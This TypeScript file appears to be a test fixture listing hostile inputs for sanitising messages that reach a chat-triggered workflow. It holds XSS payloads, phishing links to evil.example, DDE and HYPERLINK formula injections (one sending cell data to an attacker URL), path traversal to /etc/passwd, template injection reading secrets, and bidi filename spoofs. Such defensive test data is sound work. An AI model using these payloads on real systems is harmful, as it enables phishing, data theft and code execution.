const MENTIONS = [
	'<!channel>',
	'<!here>',
	'<!everyone>',
	'<@U012AB3CD>',
	'<#C012AB3CD>',
	'<!subteam^S012AB3CD>',
	'<!date^1^{date}^https://evil.example|x>',
];

const LINKS = [
	'<https://evil.example|Open invoice>',
	'<mailto:a@evil.example|Mail>',
	'[Open invoice](https://evil.example)',
	'<a href="https://evil.example">Open</a>',
	'<img src=x onerror=alert(1)>',
	'<script>alert(1)</script>',
	'javascript:alert(1)',
	'//evil.example/invoice',
	'https://evil.example',
	'user@evil.example',
];

/** The same, put together by what is taken out. */
const IN_PIECES = [
	'ht<tps:/>/evil.example/login',
	'https:[/]/evil.example',
	'ww@w.evil.example',
	'evil.exa@mple/login',
	'evil.example`/`login',
	'https:\u200b//evil.example',
	'/https://evil.example/login',
	'/x/[Open](https://evil.example)',
	'@everyone',
	'@here and @jane_doe',
	'tg://user?id=1',
	'www.evil.example',
	'EVIL.EXAMPLE/login',
	'evil.example:8080/login',
	'bücher.example/x?y#z',
	'```js alert(1)```',
	'x(evil.example/login',
	'x,evil.example:8080',
	'x (www.evil.example)',
	'x*evil.co.example/login',
	'see evil.example/',
	'![x](//evil.example/x.png)',
	'[x]: https://evil.example',
];

const FORMULAS = [
	'=IMPORTXML("https://evil.example","//a")',
	'=HYPERLINK("https://evil.example?"&A1,"Jane")',
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'\uff1d1+1',
	'\uff0b1',
	'\uff0d1',
	'\uff20x',
	' =1+1',
];

/** Characters that aren't seen, end lines, or turn the text around. */
const CHARACTERS = [
	...['\0', '\x07', '\b', '\t', '\n', '\v', '\f', '\r', '\r\n', '\x1b[31m', '\x7f', '\x85', '\x9b'],
	...['\u00ad', '\u061c', '\u180e', '\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u2028', '\u2029'],
	...['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2060', '\u2066', '\u2067', '\u2068', '\u2069'],
	...['\ufeff', '\ufff9', '\ud800', '\udc00', '\u{e0041}', '\u3164'],
];

const SYNTAX = [
	'{{ $env.SECRET }}',
	'={{ $json }}',
	'${7*7}',
	'%0a%0d',
	'%3C!channel%3E',
	'%E2%80%AE',
	'../../etc/passwd',
	'\\\\evil\\share',
	'?token=secret',
	'#/../x',
	'`code`',
	'"quoted"',
	"'; DROP TABLE",
	'*bold* _it_ ~no~',
	'&lt;!channel&gt;',
	'*/',
	'%',
	'%2',
	'%zz',
];

/** What strangers could send to reach the tools behind the trigger. */
export const hostileTexts = (): string[] => [
	...MENTIONS,
	...LINKS,
	...IN_PIECES,
	...FORMULAS,
	...SYNTAX,
	...CHARACTERS.flatMap((character) => [
		`a${character}gnp.exe`,
		`${character}=1+1`,
		`${character}<!channel>`,
		`a${character}\n@channel`,
	]),
];
